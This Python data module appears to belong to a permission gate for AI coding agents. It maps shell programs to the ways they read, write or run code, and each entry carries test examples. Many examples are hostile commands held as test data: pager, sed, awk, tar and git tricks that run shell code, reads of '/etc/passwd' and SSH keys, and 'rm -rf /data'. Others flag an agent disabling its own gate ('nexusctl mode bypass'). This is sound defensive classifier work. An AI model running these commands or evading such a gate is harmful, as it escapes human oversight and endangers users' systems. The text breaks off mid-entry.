"""Command knowledge as data: one entry per program, with the examples that prove it.

Each ``Program`` says what kind of program it is (which decides the role of its positional
arguments), which options take a value, which options name a file read or written, which options
run code or write files the words do not show (``hidden``: each with its justification), and a few
``Ex`` examples. ``tests/core/classify/test_knowledge.py`` runs every example of every entry through
the real classifier, so adding a program is one entry plus its examples.

Kinds (the role of the positionals):
  pure      prints only; positionals are not files
  reader    read-only; positionals are files read
  searcher  read-only; the first positional (unless an option gives it) is a pattern, the rest files read
  writer    positionals are files written (created, removed, changed)
  modewriter  chmod-style: the first positional is a mode/owner, the rest files written
  copier    cp-style: sources read, the last positional (or -t DIR) written
  parser    a named function in ``commands.py`` reads the argv (git, find, sed, sort, tar, awk ...)

Options not listed for a known program are treated conservatively by ``commands.py``: a value given
as ``--opt=VALUE`` (or glued to a short option when it looks like a path) is read and written.
"""

from __future__ import annotations

from typing import NamedTuple


class Ex(NamedTuple):
    """An example: ``cmd`` classified in a test workspace must give requirement ``req`` (ro/ww/dfa),
    raise the space-separated ``flags`` (model.Flag values; "-flag" means must not raise it), and read /
    write paths ending with each of the space-separated ``reads`` / ``writes``."""

    cmd: str
    req: str
    flags: str = ""
    reads: str = ""
    writes: str = ""


class Program(NamedTuple):
    kind: str
    value_opts: str = ""  # options that take a value (not a file)
    read_opts: str = ""  # options whose value is a file read
    write_opts: str = ""  # options whose value is a file written
    hidden: tuple[tuple[str, str], ...] = ()  # (option, why it runs code or writes unnamed files)
    hidden_env: str = ""  # environment variables that make this program run code
    examples: tuple[Ex, ...] = ()
    pattern_opts: str = ""  # searchers: options that give the pattern (no positional pattern then)


# coding agents' own CLIs: a subcommand that changes their settings (MCP servers, hooks, permissions,
# plugins) changes what the agent may do without asking, i.e. manages the gate
AGENT_CLIS = ("claude", "gemini", "codex", "cursor-agent", "copilot", "opencode", "qwen", "amp", "crush", "goose")

_PAGER_ENV = "LESSOPEN LESSCLOSE LESSKEY LESSKEYIN LESSEDIT VISUAL EDITOR PAGER MANPAGER MANROFFOPT BROWSER"

_PURE_NAMES = (
    "echo printf true false pwd whoami id uname which type whereis basename dirname realpath readlink seq sleep "
    "printenv test [ [[ : nproc arch uptime groups locale tty free cal yes expr tput logname users w who "
    "lsb_release getconf hash jobs wait read export declare local readonly typeset unset shift return exit break "
    "continue lscpu lsblk pgrep dirs umask times help info apropos whatis numfmt factor env command "
    "tr pstree lsof vmstat iostat (( let"
)  # (( and let: their arithmetic is checked by the parser (a variable that may not hold a number is dynamic)

TABLE: dict[str, Program] = {name: Program("pure") for name in _PURE_NAMES.split()}

# Programs the table does not list whose one-word version probe (`python3 --version`, `go version`) only
# prints: agents run these all the time. Any other argv of theirs stays an unknown program.
VERSION_PROBES = frozenset(
    {
        "python",
        "python3",
        "node",
        "npm",
        "npx",
        "pnpm",
        "yarn",
        "bun",
        "deno",
        "cargo",
        "rustc",
        "rustup",
        "go",
        "java",
        "javac",
        "ruby",
        "gem",
        "perl",
        "php",
        "pip",
        "pip3",
        "uv",
        "poetry",
        "gcc",
        "g++",
        "clang",
        "make",
        "cmake",
        "docker",
        "kubectl",
        "terraform",
        "gh",
        "dotnet",
        "swift",
        "kotlin",
        "tsc",
    }
)
VERSION_PROBE_ARGS = frozenset({"--version", "-V", "version"})

# nexusd's own programs and packages: run by any path (.venv/bin/nexusctl), as a module (python3 -m nexusd.cli)
# or through a runner we do not know (pipx run nexusctl), they are still the gate's own (gate control)
GATE_PROGRAMS = frozenset({"nexusctl", "nexus-tui", "nexus-web", "nexusd", "nexus-hook", "nexus-mcp", "nexus-acp"})
GATE_MODULES = ("nexusd", "nexus_clients")

# Package managers whose `config set|delete|edit` (npm also `set`) writes a protected file that runs code on
# the next install or script (npm script-shell, yarnPath): the file each writes (its project file, .npmrc
# or .yarnrc.yml, is protected by name too)
CONFIG_WRITERS = {
    "npm": "~/.npmrc",
    "pnpm": "~/.npmrc",
    "yarn": "~/.yarnrc.yml",
    "bun": "~/.npmrc",
    "pip": "~/.config/pip/pip.conf",
    "pip3": "~/.config/pip/pip.conf",
}
# npm-style settings given as options (`npm test --node-options=--require=x.js`): each is what an
# npm_config_* variable would set, and changes what an allowed `npm test` runs (hidden effects)
PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "npx", "bun"})
# Build and test runners people allow by prefix (`Bash(make test:*)`, `Bash(go test:*)`): options (and make
# variables) that run a program of the caller's choosing or load build files from elsewhere; each is a hidden
# effect, so the prefix rule does not cover it
RUNNER_CODE_OPTS = {
    "make": frozenset(
        {
            "--eval",
            "-E",
            "-f",
            "--file",
            "--makefile",
            "-C",
            "--directory",
            "-I",
            "--include-dir",
            "SHELL",
            ".SHELLFLAGS",
            "MAKEFLAGS",
            "MAKEFILES",
            "MAKESHELL",
        }
    ),
    "go": frozenset({"-exec", "--exec", "-toolexec", "--toolexec", "-modfile", "-overlay", "-C", "-pgo"}),
    "cargo": frozenset({"--config", "--manifest-path", "-Z", "-C", "--target-dir"}),
    "pytest": frozenset(
        {"-p", "-c", "--config-file", "--rootdir", "--confcutdir", "-o", "--override-ini", "--pyargs", "--import-mode"}
    ),
}
PACKAGE_CODE_OPTS = frozenset(
    {
        "--node-options",
        "--script-shell",
        "--shell",
        "--userconfig",
        "--globalconfig",
        "--prefix",
        "--init-module",
        "--editor",
        "--browser",
        "--viewer",
        "--git",
        "--onload-script",
        "--node-gyp",
        "--npm-path",
        "--cache",
        "--registry",
        "--ignore-scripts",
        "--foreground-scripts",
        "--dir",
        "--cwd",
        "-C",
        "--global-dir",
        "--config",
        "--preid",
        "--require",
        "-r",
        "--import",
        "--loader",
        "--experimental-loader",
    }
)

TABLE.update(
    {
        "echo": Program("pure", examples=(Ex("echo hi", "ro"), Ex("echo hi > out.txt", "ww", writes="out.txt"))),
        "tr": Program(
            "pure",
            examples=(Ex("tr a-z A-Z", "ro"), Ex("tr -d '\\n' < README.md", "ro", reads="README.md")),
        ),
        "which": Program("pure", examples=(Ex("which python3", "ro"),)),
        "pkill": Program(
            "parser",
            examples=(
                Ex("pkill -f 'node server.js'", "dfa"),
                Ex("pkill -9 -u me", "dfa", "catastrophic"),
                Ex("pkill -u me node", "dfa", "-catastrophic"),
            ),
        ),
        "killall": Program(
            "parser",
            examples=(
                Ex("killall node", "dfa"),
                Ex("killall -9 -u root", "dfa", "catastrophic"),
            ),
        ),
        "ps": Program(
            "parser",
            examples=(
                Ex("ps aux", "ro"),
                Ex("ps -ef", "ro"),
                Ex("ps -o pid,comm -p 1", "ro"),
                Ex("ps eww", "dfa", "dynamic"),
                Ex("ps auxe", "dfa", "dynamic"),
            ),
        ),
        "tsort": Program("reader", examples=(Ex("tsort .env", "ro", reads=".env"),)),  # prints its file's words
        "info": Program(
            "pure",
            "-n --node -k --apropos --index-search -O --show-options --usage",
            read_opts="-f --file -d --directory --restore",
            write_opts="-o --output --dribble",
            examples=(
                Ex("info ls", "ro"),
                Ex("info -o notes.txt ls", "ww", writes="notes.txt"),
                Ex("info --restore=keys.txt ls", "ro", reads="keys.txt"),
            ),
        ),
        "hostnamectl": Program(
            "parser",
            examples=(
                Ex("hostnamectl", "ro"),
                Ex("hostnamectl status", "ro"),
                Ex("hostnamectl hostname", "ro"),
                Ex("hostnamectl set-hostname x", "dfa"),
                Ex("hostnamectl hostname x", "dfa"),
                Ex("hostnamectl -H h status", "dfa"),
            ),
        ),
        "timedatectl": Program(
            "parser",
            examples=(
                Ex("timedatectl", "ro"),
                Ex("timedatectl list-timezones", "ro"),
                Ex("timedatectl set-ntp false", "dfa"),
            ),
        ),
        "nvidia-smi": Program(
            "parser",
            examples=(
                Ex("nvidia-smi", "ro"),
                Ex("nvidia-smi -L", "ro"),
                Ex("nvidia-smi --query-gpu=name --format=csv", "ro"),
                Ex("nvidia-smi -r", "dfa"),
                Ex("nvidia-smi -pl 100", "dfa"),
                Ex("nvidia-smi -f log.txt", "dfa"),
            ),
        ),
        "crontab": Program(
            "parser",
            examples=(
                Ex("crontab -l", "ro"),
                Ex("crontab <<< '* * * * * id'", "dfa", "hidden_effect protected_path"),
                Ex("crontab jobs.txt", "dfa", "hidden_effect protected_path", reads="jobs.txt"),
                Ex("crontab -r", "dfa", "hidden_effect protected_path"),
            ),
        ),
        # xargs itself is a wrapper (wrappers are peeled in bash.py); with -a its options are reported as a
        # command of their own, so the file it reads its arguments from meets Read rules
        "xargs": Program(
            "pure",
            "-d -E -I -L -n -P -s --delimiter --eof --replace --max-lines --max-args --max-procs --max-chars "
            "--process-slot-var",
            read_opts="-a --arg-file",
            examples=(
                Ex("xargs -a .env echo", "ro", reads=".env"),
                Ex("xargs --arg-file=list.txt echo", "ro", reads="list.txt"),
            ),
        ),
        "((": Program(
            "pure",
            examples=(
                Ex("i=0; (( i++ ))", "ro"),
                Ex("(( n = 2 * 3 ))", "ro"),
                Ex("x='a[$(id)]'; (( x ))", "dfa", flags="dynamic"),
            ),
        ),
        "let": Program("pure", examples=(Ex("let n=1+2", "ro"), Ex("let PATH=1", "ro", flags="dangerous_env"))),
        "man": Program(
            "pure",
            value_opts="-M -S -s -L -m -e -C --manpath --sections --locale --systems --extension --config-file",
            hidden=(
                ("-P", "man -P names the pager program it runs"),
                ("--pager", "man --pager names the pager program it runs"),
                ("-H", "man -H names the browser it runs"),
                ("--html", "man --html names the browser it runs"),
                ("-l", "man -l formats a local file with groff (which can run programs)"),
                ("--local-file", "man --local-file formats a local file with groff"),
            ),
            hidden_env=_PAGER_ENV,
            examples=(
                Ex("man ls", "ro"),
                Ex("man -P 'sh -c id' ls", "dfa", "hidden_effect"),
                Ex("man --pager=sh ls", "dfa", "hidden_effect"),
                Ex("man -Hfirefox ls", "dfa", "hidden_effect"),
                Ex("MANPAGER='sh -c id' man ls", "dfa", "hidden_effect"),
            ),
        ),
        "cat": Program(
            "reader",
            examples=(
                Ex("cat README.md", "ro", "-hidden_effect", reads="README.md"),
                Ex("cat --number=/etc/passwd README.md", "dfa", reads="/etc/passwd", writes="/etc/passwd"),
                Ex("cat -- -x", "ro", reads="-x"),
            ),
        ),
        "head": Program(
            "reader",
            "-n -c --lines --bytes",
            examples=(Ex("head -n 5 README.md", "ro", reads="README.md"), Ex("head -n5 --lines=3 src/main.py", "ro")),
        ),
        "tail": Program(
            "reader",
            "-n -c --lines --bytes -s --sleep-interval --pid --follow --max-unchanged-stats",
            examples=(Ex("tail --follow=name -n 20 src/main.py", "ro"),),
        ),
        "less": Program(
            "reader",
            "-b -h -j -k -p -P -t -T -x -y -z -# --pattern --tag --tabs --jump-target --prompt",
            write_opts="-o -O --log-file --LOG-FILE",
            read_opts="-k --lesskey-file",
            hidden=(("+", "less +cmd runs less commands (! runs a shell)"),),
            hidden_env=_PAGER_ENV,
            examples=(
                Ex("less README.md", "ro", reads="README.md"),
                Ex("less +!id README.md", "dfa", "hidden_effect"),
                Ex("less '+:!sh' README.md", "dfa", "hidden_effect"),
                Ex("less -o log.txt README.md", "ww", writes="log.txt"),
                Ex("less -O/etc/x README.md", "dfa", "outside_workspace", writes="/etc/x"),
                Ex("LESSOPEN='|sh -c id %s' less README.md", "dfa", "hidden_effect"),
            ),
        ),
        "more": Program("reader", "-n", hidden=(("+", "more +cmd runs commands"),), hidden_env=_PAGER_ENV),
        "wc": Program(
            "reader",
            "--total",
            read_opts="--files0-from",
            examples=(
                Ex("wc -l src/main.py", "ro", reads="src/main.py"),
                Ex("wc --files0-from=.env", "ro", reads=".env"),
            ),
        ),
        "nl": Program(
            "reader",
            "-b -d -f -h -i -l -n -s -v -w --body-numbering --section-delimiter --footer-numbering "
            "--header-numbering --line-increment --join-blank-lines --number-format --number-separator "
            "--starting-line-number --number-width",
        ),
        "tac": Program("reader", "-s --separator"),
        "rev": Program("reader"),
        "od": Program("reader", "-A -j -N -S -t -w --address-radix --skip-bytes --read-bytes --format --width"),
        "hexdump": Program("reader", "-e -n -s", read_opts="-f"),
        "strings": Program("reader", "-n -t -e -T --bytes --radix --encoding --target"),
        "file": Program(
            "reader",
            "-e -F -P --exclude --separator --parameter",
            read_opts="-f -m --files-from --magic-file",
            hidden=(
                ("-C", "file -C compiles a magic file and writes the result"),
                ("--compile", "file --compile writes a compiled magic file"),
            ),
            examples=(
                Ex("file README.md", "ro", reads="README.md"),
                Ex("file -f .env", "ro", reads=".env"),
                Ex("file --files-from=.env", "ro", reads=".env"),
                Ex("file -m /etc/magic README.md", "ro", "outside_workspace", reads="/etc/magic"),
                Ex("file -C -m x.magic", "dfa", "hidden_effect"),
            ),
        ),
        "stat": Program("reader", "-c --format --printf", examples=(Ex("stat -c %s README.md", "ro"),)),
        "md5sum": Program("reader"),
        "sha1sum": Program("reader"),
        "sha224sum": Program("reader"),
        "sha256sum": Program("reader"),
        "sha384sum": Program("reader"),
        "sha512sum": Program("reader"),
        "b2sum": Program("reader", "-l --length"),
        "cksum": Program("reader", "-a --algorithm -l --length"),
        "sum": Program("reader"),
        "cut": Program("reader", "-b -c -d -f --output-delimiter --bytes --characters --delimiter --fields"),
        "paste": Program("reader", "-d --delimiters"),
        "join": Program("reader", "-1 -2 -a -e -j -o -t -v"),
        "fold": Program("reader", "-w --width"),
        "fmt": Program("reader", "-w -g -p --width --goal --prefix"),
        "expand": Program("reader", "-t --tabs"),
        "unexpand": Program("reader", "-t --tabs"),
        "column": Program(
            "reader",
            "-c -s -o -n -N -R -H -W -E -O -l --table-columns --separator --output-separator --table-name",
            examples=(Ex("column -t -s, src/main.py", "ro", reads="src/main.py"),),
        ),
        "comm": Program("reader", "--output-delimiter"),
        "diff": Program(
            "reader",
            "-U -C -F -I -L -x --label --horizon-lines --exclude --ignore-matching-lines --unified --context "
            "--show-function-line --color --palette --tabsize --width -W --line-format --old-line-format "
            "--new-line-format --unchanged-line-format --old-group-format --new-group-format "
            "--changed-group-format --unchanged-group-format",
            read_opts="-X --exclude-from --to-file --from-file",
            examples=(
                Ex("diff -u README.md src/main.py", "ro", reads="README.md src/main.py"),
                Ex("diff --from-file=.env README.md", "ro", reads=".env"),
                Ex("diff --unified=3 README.md src/main.py", "ro"),
            ),
        ),
        "cmp": Program("reader", "-i -n --bytes --ignore-initial"),
        "base64": Program("reader", "-w --wrap", write_opts="-o --output", read_opts="-i --input"),
        "ls": Program(
            "reader",
            "-I -T -w --ignore --hide --tabsize --width --format --sort --time --time-style --color "
            "--quoting-style --block-size --indicator-style --hyperlink",
            examples=(
                Ex("ls -la src", "ro", reads="src"),
                Ex("ls --color=auto src", "ro"),
                Ex("ls ~/.ssh", "ro", "outside_workspace", reads=".ssh"),
            ),
        ),
        "du": Program(
            "reader",
            "-d -B -t --max-depth --exclude --threshold --block-size --time-style --time",
            read_opts="-X --exclude-from --files0-from",
        ),
        "df": Program("reader", "-B -t -x --block-size --type --exclude-type --output"),
        "tree": Program(
            "reader",
            "-L -I -P --filelimit --charset --sort -H -T --timefmt --gitfile",
            write_opts="-o --output",
            read_opts="--fromfile",
            # -R reruns tree in every directory it lists with `-o 00Tree.html` added: files no word names
            hidden=(("-R", "tree -R writes a 00Tree.html file into every directory it lists"),),
            examples=(
                Ex("tree -L 2 src", "ro"),
                Ex("tree -R -H . src", "dfa", "hidden_effect"),
                Ex("tree -aRH . -L 2", "dfa", "hidden_effect"),
                Ex("tree -o out.txt src", "ww", writes="out.txt"),
                Ex("tree -o .git/hooks/pre-commit", "dfa", "protected_path"),
            ),
        ),
        "cd": Program("reader"),
        "pushd": Program("reader"),
        "bat": Program(
            "reader",
            "-l -H -r -m --language --highlight-line --line-range --style --theme --tabs --wrap --terminal-width "
            "--map-syntax --color --decorations --italic-text --paging",
            hidden=(
                ("--pager", "bat --pager names the program it runs"),
                ("--generate-config-file", "bat --generate-config-file writes its configuration"),
            ),
            hidden_env="PAGER BAT_PAGER LESSOPEN LESSCLOSE",
            examples=(Ex("bat --pager='sh -c id' README.md", "dfa", "hidden_effect"),),
        ),
        "eza": Program("reader", "-L -I -s --level --ignore-glob --sort --color --time-style --icons --colour"),
        "exa": Program("reader", "-L -I -s --level --ignore-glob --sort --color --time-style"),
        "shasum": Program("reader", "-a --algorithm"),
        "zcat": Program("reader"),
        "xzcat": Program("reader"),
        "bzcat": Program("reader"),
        "lsattr": Program("reader"),
        "look": Program("reader", "-t"),
        # pattern-first searchers
        "grep": Program(
            "searcher",
            "-e -m -A -B -C -d -D --regexp --max-count --after-context --before-context --context --label "
            "--binary-files --devices --directories --exclude --include --exclude-dir --group-separator --color "
            "--colour",
            read_opts="-f --file --exclude-from",
            pattern_opts="-e -f --regexp --file",
            examples=(
                Ex("grep -rn foo src", "ro", reads="src"),
                Ex("grep -f .env README.md", "ro", reads=".env README.md"),
                Ex("grep --file=.env README.md", "ro", reads=".env"),
                Ex("grep --exclude-from=.env foo src", "ro", reads=".env"),
                Ex("grep --color=auto -e foo src", "ro"),
                Ex("grep --fil=.env README.md", "ro", reads=".env"),
                Ex("grep --exclude-f .env foo src", "ro", reads=".env"),
            ),
        ),
        "rg": Program(
            "searcher",
            "-e -g -t -T -m -A -B -C -j -M -r -E --regexp --glob --iglob --type --type-not --max-count "
            "--after-context --before-context --context --threads --max-columns --replace --max-depth "
            "--max-filesize --encoding --sort --sortr --type-add --type-clear --colors --color "
            "--field-match-separator --field-context-separator --path-separator --context-separator --engine "
            "--dfa-size-limit --regex-size-limit -d --pre-glob --hostname-bin",
            read_opts="-f --file --ignore-file",
            pattern_opts="-e -f --regexp --file",
            hidden=(
                ("--pre", "rg --pre runs a program on every file searched"),
                ("--search-zip", "rg --search-zip runs decompression programs"),
                ("-z", "rg -z runs decompression programs"),
                ("--hostname-bin", "rg --hostname-bin runs a program"),
            ),
            examples=(
                Ex("rg foo src", "ro", "-hidden_effect", reads="src"),
                Ex("rg --pre=sh foo src", "dfa", "hidden_effect"),
                Ex("rg --pre sh foo src", "dfa", "hidden_effect"),
                Ex("rg -z foo src", "dfa", "hidden_effect"),
                Ex("rg -iz foo src", "dfa", "hidden_effect"),
                Ex("rg --ignore-file .env foo", "ro", reads=".env"),
            ),
        ),
        "ag": Program(
            "searcher",
            "-A -B -C -G -g -m --ignore --depth --file-search-regex --max-count --context",
            read_opts="-p --path-to-ignore",
            hidden=(("--pager", "ag --pager names the program it runs"),),
        ),
        "jq": Program(
            "searcher",
            "--indent --arg --argjson --args --jsonargs",
            read_opts="-f --from-file -L --library-path",  # -L: modules and data files jq reads (import "x" as $d)
            pattern_opts="-f --from-file",
            examples=(
                Ex("jq .name src/x.json", "ro", reads="src/x.json"),
                Ex("jq --rawfile k .env . src/x.json", "ro", reads=".env"),
            ),
        ),
        # writers
        "rm": Program(
            "writer",
            examples=(
                Ex("rm src/x.py", "ww", writes="src/x.py"),
                Ex("rm -rf build", "ww", "-catastrophic", writes="build"),
                Ex("rm -rf /data", "dfa", "catastrophic"),
                Ex("rm -r /tmp", "dfa", "catastrophic"),
                Ex("rm -fr /srv/www", "dfa", "catastrophic"),
                Ex("rm -rf ../other", "dfa", "catastrophic"),
            ),
        ),
        "rmdir": Program("writer"),
        "unlink": Program("writer"),
        "mkdir": Program("writer", "-m --mode --context", examples=(Ex("mkdir -p src/a", "ww", writes="src/a"),)),
        "touch": Program("writer", "-d -t --date", read_opts="-r --reference"),
        "tee": Program(
            "writer",
            "--output-error",
            examples=(
                Ex("tee out.txt", "ww", writes="out.txt"),
                Ex("tee -a .git/hooks/pre-commit", "dfa", "protected_path"),
            ),
        ),
        "truncate": Program("writer", "-s --size", read_opts="-r --reference"),
        "shred": Program("writer", "-n -s --iterations --size", read_opts="--random-source"),
        "chmod": Program(
            "modewriter",
            read_opts="--reference",
            examples=(
                Ex("chmod +x src/main.py", "ww", writes="src/main.py"),
                Ex("chmod -x src/main.py", "ww", writes="src/main.py"),  # a mode that looks like an option
                Ex("chmod -w,o-r /etc/passwd", "dfa", "outside_workspace"),
                Ex("chmod -R 777 /opt/app", "dfa", "catastrophic"),
            ),
        ),
        "chown": Program(
            "modewriter", read_opts="--reference", examples=(Ex("chown -R me /var/www", "dfa", "catastrophic"),)
        ),
        "chgrp": Program("modewriter", read_opts="--reference"),
        "cp": Program(
            "copier",
            "-S --suffix",
            examples=(
                Ex("cp README.md src/", "ww", reads="README.md", writes="src"),
                Ex("cp README.md .git/hooks/pre-commit", "dfa", "protected_path"),
            ),
        ),
        "mv": Program("copier", "-S --suffix"),
        "ln": Program("copier", "-S --suffix"),
        "install": Program("copier", "-m -o -g -S --mode --owner --group --suffix"),
        # named parsers
        "sed": Program(
            "parser",
            examples=(
                Ex("sed -n 1p README.md", "ro", reads="README.md"),
                Ex("sed -i s/a/b/ src/main.py", "ww", writes="src/main.py"),
                Ex("sed -n '1e id' README.md", "dfa", "hidden_effect"),
                Ex("sed 's/a/b/w out' README.md", "dfa", "hidden_effect"),
                Ex("sed 's/x/id/e' README.md", "dfa", "hidden_effect"),
                Ex("sed 'w /tmp/x' README.md", "dfa", "hidden_effect"),
                Ex("sed '1r /etc/passwd' README.md", "dfa", "hidden_effect"),
                Ex("sed -e 1R.env README.md", "dfa", "hidden_effect"),
                Ex("sed -f script.sed README.md", "dfa", "hidden_effect"),
            ),
        ),
        "sort": Program(
            "parser",
            examples=(
                Ex("sort README.md", "ro", reads="README.md"),
                Ex("sort -o out.txt README.md", "ww", writes="out.txt"),
                Ex("sort --output=README.md src/main.py", "ww", writes="README.md"),
                Ex("sort --compress-program=sh README.md", "dfa", "hidden_effect"),
                Ex("sort --files0-from=.env", "ro", reads=".env"),
                Ex("sort --out x.txt README.md", "ww", writes="x.txt"),
                Ex("sort --outp=.git/hooks/x README.md", "dfa", "protected_path"),
                Ex("sort --compress=sh README.md", "dfa", "hidden_effect"),
            ),
        ),
        "uniq": Program("parser"),
        # name-service lookups: hosts, ahosts*, networks ... ask a resolver (DNS, mDNS, LDAP): the network
        "getent": Program(
            "parser",
            examples=(
                Ex("getent passwd root", "ro"),
                Ex("getent hosts example.com", "dfa"),
                Ex("getent ahostsv4 example.com", "dfa"),
                Ex("getent -s dns passwd x", "dfa"),
            ),
        ),
        **{
            agent: Program(
                "parser",
                examples=(
                    Ex(f"{agent} mcp add x -- y", "dfa", "gate_control"),
                    Ex(f"{agent} mcp list", "dfa", "-gate_control"),
                ),
            )
            for agent in AGENT_CLIS
        },
        "xxd": Program("parser"),
        "find": Program(
            "parser",
            examples=(
                Ex("find src -name '*.py'", "ro", reads="src"),
                Ex("find . -fprint out.txt", "ww", writes="out.txt"),
                Ex("find / -delete", "dfa", "catastrophic"),
                Ex("find /data -name x -delete", "dfa", "catastrophic"),
                Ex("find build -delete", "ww", "-catastrophic", writes="build"),
            ),
        ),
        "git": Program(
            "parser",
            examples=(
                Ex("git status", "ro"),
                Ex("git log --oneline -5", "ro"),
                Ex("git fetch --upload-pack=touch\\ x origin", "dfa", "hidden_effect"),
                Ex("git fetch --upload-pack 'sh -c id' origin", "dfa", "hidden_effect"),
                Ex("git fetch -u 'sh -c id' origin", "dfa", "hidden_effect"),
                Ex("git clone -u 'sh -c id' x y", "dfa", "hidden_effect"),
                Ex("git ls-remote --upload-pack=id origin", "dfa", "hidden_effect"),
                Ex("git push --receive-pack=id origin", "dfa", "hidden_effect"),
                Ex("git archive --remote=x --exec=id HEAD", "dfa", "hidden_effect"),
                Ex("git grep -O foo", "dfa", "hidden_effect"),
                Ex("git grep --open-files-in-pager=vi foo", "dfa", "hidden_effect"),
                Ex("git diff --output=x", "dfa", "hidden_effect"),
                Ex("git diff --ext-diff", "dfa", "hidden_effect"),
                Ex("git log --textconv -p", "dfa", "hidden_effect"),
                Ex("git -c core.pager=id log", "dfa", "hidden_effect"),
                Ex("git -ccore.pager=id log", "dfa", "hidden_effect"),
                Ex("git --config-env=core.pager=X log", "dfa", "hidden_effect"),
                Ex("git clone -c core.fsmonitor=id x y", "dfa", "hidden_effect"),
                Ex("git rebase --exec id HEAD~1", "dfa", "hidden_effect"),
                Ex("git myalias", "dfa", "hidden_effect"),
                Ex("git diff --no-index /dev/null ~/.ssh/id_rsa", "ro", "outside_workspace", reads=".ssh/id_rsa"),
                Ex("git commit -m 'fix things'", "dfa", "-hidden_effect"),
                Ex("git log --outp=x", "dfa", "hidden_effect"),
                Ex("git diff --ext", "dfa", "hidden_effect"),
                Ex("git log --textc -p", "dfa", "hidden_effect"),
                Ex("git grep --open-files=vi foo", "dfa", "hidden_effect"),
                Ex("git fetch --upl=id origin", "dfa", "hidden_effect"),
                Ex("git diff --text", "ro"),
                Ex("git -c core.pager=cat log", "ro"),
                Ex("git -c core.pager=less log", "dfa", "hidden_effect"),
                Ex("git -C ../other status", "ro", "outside_workspace"),
                Ex("git show HEAD:.env", "ro", reads=".env"),
                Ex("git log -p -- .env", "ro", reads=".env"),
                Ex("git submodule foreach ls", "dfa", "hidden_effect"),
                Ex("git difftool -x id", "dfa", "hidden_effect"),
                Ex("git bisect run ./t.sh", "dfa", "hidden_effect"),
                Ex("git apply x.diff", "dfa", "hidden_effect"),
                Ex("git am < x.mbox", "dfa", "hidden_effect"),
                Ex("git apply --check x.diff", "ro"),
            ),
        ),
        "dd": Program("parser"),
        "bsdtar": Program(
            "parser",
            examples=(  # libarchive's tar: tar's options, tar's parser
                Ex("bsdtar -tf a.tar", "ro", reads="a.tar"),
                Ex("bsdtar -xf a.tar", "dfa", "protected_path"),
            ),
        ),
        "tar": Program(
            "parser",
            examples=(
                Ex("tar -tf a.tar", "ro", reads="a.tar"),
                Ex("tar tzf a.tgz", "ro", reads="a.tgz"),
                Ex("tar -czf out.tgz src", "ww", reads="src", writes="out.tgz"),
                Ex("tar -czf .git/hooks/x src", "dfa", "protected_path"),
                Ex("tar -xf a.tar", "dfa", "hidden_effect protected_path"),  # members may be .git/hooks/...
                Ex("tar -C src -xzf a.tgz", "dfa", "protected_path", writes="src"),
                Ex("tar -xOf a.tar", "ro", reads="a.tar"),  # to standard output: no file is made
                Ex("tar -cf out.tar --to-command=id src", "dfa", "hidden_effect"),
                Ex("tar -I 'sh -c id' -cf out.tar src", "dfa", "hidden_effect"),
                Ex("tar --use-compress-program=id -cf x.tar src", "dfa", "hidden_effect"),
                Ex("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=id src", "dfa", "hidden_effect"),
                Ex("tar cf x.tar -T .env", "ww", reads=".env"),
            ),
        ),
        "zip": Program(
            "parser",
            examples=(
                Ex("zip -r out.zip src", "ww", reads="src", writes="out.zip"),
                Ex("zip x.zip README.md -T -TT 'sh -c id'", "dfa", "hidden_effect"),
                Ex("zip x.zip README.md --unzip-command=id -T", "dfa", "hidden_effect"),
            ),
        ),
        "unzip": Program(
            "parser",
            examples=(
                Ex("unzip -l a.zip", "ro", reads="a.zip"),
                Ex("unzip a.zip", "dfa", "hidden_effect protected_path"),
                Ex("unzip -o a.zip -d src", "dfa", "protected_path", writes="src"),
            ),
        ),
        "awk": Program(
            "parser",
            examples=(
                Ex("awk '{print $1}' README.md", "ro", reads="README.md"),
                Ex("awk 'BEGIN{system(\"id\")}'", "dfa", "hidden_effect"),
                Ex("awk '{print | \"sh\"}' README.md", "dfa", "hidden_effect"),
                Ex("awk '{print > \"out\"}' README.md", "dfa", "hidden_effect"),
                Ex("awk -f prog.awk README.md", "dfa", "hidden_effect", reads="prog.awk"),
                Ex("awk -F: -v x=1 '{print $1}' README.md", "ro", reads="README.md"),
            ),
        ),
        "rsync": Program(
            "parser",
            examples=(
                Ex("rsync -a src/ backup/", "ww", reads="src", writes="backup"),
                Ex("rsync -a --delete src/ /srv/www/", "dfa", "catastrophic"),
                Ex("rsync -e 'sh -c id' src x:y", "dfa", "hidden_effect"),
            ),
        ),
        "patch": Program(
            "parser",
            examples=(
                Ex("patch -p1 -i x.diff", "dfa", "hidden_effect", reads="x.diff"),
                Ex("patch -p1 < x.diff", "dfa", "hidden_effect protected_path"),
            ),
        ),
        "nexusctl": Program(
            "parser",
            examples=(
                Ex("nexusctl status", "ro"),
                Ex("nexusctl rules", "ro"),
                Ex("nexusctl rules list", "ro"),
                Ex("nexusctl mode bypass", "dfa", "gate_control"),
                Ex("nexusctl rules add 'Bash(*)'", "dfa", "gate_control"),
                Ex("nexusctl trust .", "dfa", "gate_control"),
                Ex("nexusctl answer 1 allow", "dfa", "gate_control"),
                Ex("/usr/local/bin/nexusctl mode bypass", "dfa", "gate_control"),
                Ex("nexusctl --socket status mode bypass", "dfa", "gate_control"),
                Ex("nexusctl --socket=/tmp/s mode bypass", "dfa", "gate_control"),
                Ex("nexusctl --socket /tmp/s status", "ro"),
                Ex("nexusctl -x status", "dfa", "gate_control"),
                Ex("nexusctl trust list", "ro"),
                Ex("nexusctl rules remove 'Bash(rm *)'", "dfa", "gate_control"),
                Ex("nexusctl sandbox probe", "dfa", "gate_control"),
                Ex("nexusctl run -- ls", "dfa", "gate_control"),
            ),
        ),
        "nexus-tui": Program("parser", examples=(Ex("nexus-tui", "dfa", "gate_control"),)),
        "nexus-web": Program("parser", examples=(Ex("nexus-web", "dfa", "gate_control"),)),
        # the daemon, the hook and the MCP bridge are started by a person or the agent's own settings, never by
        # the agent's commands (a second daemon with another policy, a hook query crafted by hand)
        "nexusd": Program("parser", examples=(Ex("nexusd --policy /tmp/p.toml", "dfa", "gate_control"),)),
        "nexus-hook": Program("parser", examples=(Ex("nexus-hook claude", "dfa", "gate_control"),)),
        "nexus-mcp": Program("parser", examples=(Ex("nexus-mcp", "dfa", "gate_control"),)),
        "nexus-acp": Program("parser", examples=(Ex("nexus-acp -- sh -c id", "dfa", "gate_control"),)),
        "docker": Program(
            "parser",
            examples=(
                Ex("docker ps -a", "ro"),
                Ex("docker images", "ro"),
                Ex("docker run -v /:/h alpine", "dfa"),
            ),
        ),
        # PowerShell's static subset (powershell.py); anything outside it is an unknown program
        "pwsh": Program(
            "parser",
